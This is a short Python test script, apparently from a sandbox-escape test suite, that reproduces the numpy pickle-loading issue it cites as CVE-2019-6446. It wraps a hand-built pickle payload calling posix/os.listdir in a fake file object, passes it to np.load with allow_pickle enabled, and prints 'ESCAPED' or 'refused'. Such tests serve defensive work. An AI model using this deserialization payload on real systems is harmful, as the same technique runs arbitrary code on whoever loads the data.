# expect: done
# idea: feed np.load a pickle from an object that only looks like a file, and have it call posix.listdir
# source: numpy CVE-2019-6446
import numpy as np


class Paper:
    def __init__(self, data):
        self.data, self.place = data, 0

    def read(self, size=-1):
        end = len(self.data) if size is None or size < 0 else self.place + size
        piece = self.data[self.place : end]
        self.place += len(piece)
        return piece

    def readline(self, size=-1):
        end = self.data.find(b"\n", self.place) + 1 or len(self.data)
        return self.read(end - self.place)

    def seek(self, offset, whence=0):
        self.place = (0, self.place, len(self.data))[whence] + offset
        return self.place

    def tell(self):
        return self.place


def tick(ctx):
    folder = ctx.config["folder"].encode()
    for module in (b"posix", b"os"):
        payload = b"c" + module + b"\nlistdir\n(V" + folder + b"\ntR."
        try:
            print("ESCAPED: listed", np.load(Paper(payload), allow_pickle=True))
        except Exception as error:
            print("refused:", type(error).__name__, repr(error.__cause__))
